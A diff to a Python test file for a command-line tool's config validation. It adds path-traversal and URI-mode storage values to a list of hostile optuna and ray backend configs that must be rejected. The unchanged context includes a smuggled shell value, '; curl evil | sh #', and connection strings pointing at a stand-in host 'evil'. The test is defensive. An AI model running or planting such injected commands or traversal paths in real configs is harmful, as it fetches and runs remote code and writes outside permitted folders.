@@ -153,6 +153,10 @@ SHELL = "; curl evil | sh #"
     [
         (f"{{kind: optuna, storage: ../.profile, study: '{SHELL}'}}", "backend.storage: got "),
         ("{kind: optuna, storage: 'sqlite:///../x.db'}", "backend.storage: got "),
+        ("{kind: optuna, storage: 'sqlite:///OUT/%2e%2e/%2e%2e/x.db'}", "backend.storage: got "),
+        ("{kind: optuna, storage: 'sqlite:///OUT/x.db?uri=true'}", "backend.storage: got "),
+        ("{kind: optuna, storage: 'SQLite:///OUT/x.db'}", "backend.storage: got "),
+        ("{kind: ray, storage: 'file:///somewhere'}", "backend.storage: got "),
         ("{kind: optuna, storage: 'postgresql://me:pw@evil/db'}", "//me:***@evil/db, a connection"),
         ("{kind: ray, storage: /somewhere}", "backend.storage: got /somewhere, a file outside of"),
         ("{kind: ray, address: 'ray://evil:1'}", "backend.address: got ray://evil:1, a connection"),
@@ -165,6 +169,7 @@ def test_a_config_writes_only_below_out_and_connects_nowhere(
     folder = place / "here"
     folder.mkdir()
     text = (place / "small.yaml").read_text().replace("rows.npz", str(place / "rows.npz"))
+    backend = backend.replace("OUT", str(folder / "o"))
     (folder / "stranger.yaml").write_text(f"{text}backend: {backend}\n")
     before = sorted(place.rglob("*"))
     ended = command("run", folder / "stranger.yaml", "--out", folder / "o")
